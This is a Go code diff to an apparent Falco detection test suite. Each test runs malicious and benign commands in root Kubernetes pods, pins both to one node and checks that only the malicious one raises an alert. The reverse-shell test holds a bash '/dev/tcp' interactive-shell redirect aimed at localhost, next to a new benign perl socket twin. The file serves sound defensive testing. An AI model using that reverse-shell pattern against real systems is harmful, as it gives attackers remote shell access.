@@ -41,7 +41,9 @@ func TestSensitiveFileIsSeen(t *testing.T) {
 }
 
 func TestReverseShellIsSeen(t *testing.T) {
-	runFalco(t, "POL-027", "Reverse shell in a container", "bash -i >/dev/tcp/127.0.0.1/9 0>&1", "true >/dev/tcp/127.0.0.1/9")
+	runFalco(t, "POL-027", "Reverse shell in a container", "bash -i >/dev/tcp/127.0.0.1/9 0>&1",
+		// a connection that no shell is given, and of which no shell is told
+		`perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 0); connect(S, sockaddr_in(9, inet_aton("127.0.0.1")))'`)
 }
 
 func TestCryptoMiningIsSeen(t *testing.T) {
@@ -74,8 +76,9 @@ func proveAlert(ctx context.Context, t spec.T, env *environment.Environment, rul
 		t.Broken(err)
 	}
 	since := metav1.Now()
-	for _, pod := range []struct{ name, command string }{{"benign", benign}, {"act", act}} {
-		if err := runToEnd(ctx, env, t.Scope(), ns, pod.name, pod.command); err != nil {
+	for _, pod := range []struct{ name, command string }{{"benign", benign}, {"act", act + "; exit 0"}} {
+		// By one engine, whose log then has the twin's alert before the act's.
+		if err := runToEnd(ctx, env, t.Scope(), ns, pod.name, engines.Items[0].Spec.NodeName, pod.command); err != nil {
 			t.Broken(err)
 		}
 	}
@@ -88,12 +91,12 @@ func proveAlert(ctx context.Context, t spec.T, env *environment.Environment, rul
 	t.Observe(fmt.Sprintf("%q: the act raised it, its benign twin did not", rule), lines)
 }
 
-// runToEnd has a pod carry out one command as root.
-func runToEnd(ctx context.Context, env *environment.Environment, s *environment.Scope, ns, name, command string) error {
+// runToEnd has a pod on a node carry out one command as root.
+func runToEnd(ctx context.Context, env *environment.Environment, s *environment.Scope, ns, name, node, command string) error {
 	pod := &corev1.Pod{
 		ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: name},
-		Spec: corev1.PodSpec{RestartPolicy: corev1.RestartPolicyNever, Containers: []corev1.Container{{
-			Name: "act", Image: "docker.io/provingground/debian:bookworm", Command: []string{"bash", "-c", command + "; exit 0"},
+		Spec: corev1.PodSpec{NodeName: node, RestartPolicy: corev1.RestartPolicyNever, Containers: []corev1.Container{{
+			Name: "act", Image: "docker.io/provingground/debian:bookworm", Command: []string{"bash", "-c", command},
 		}}},
 	}
 	if err := s.Create(ctx, pod); err != nil {
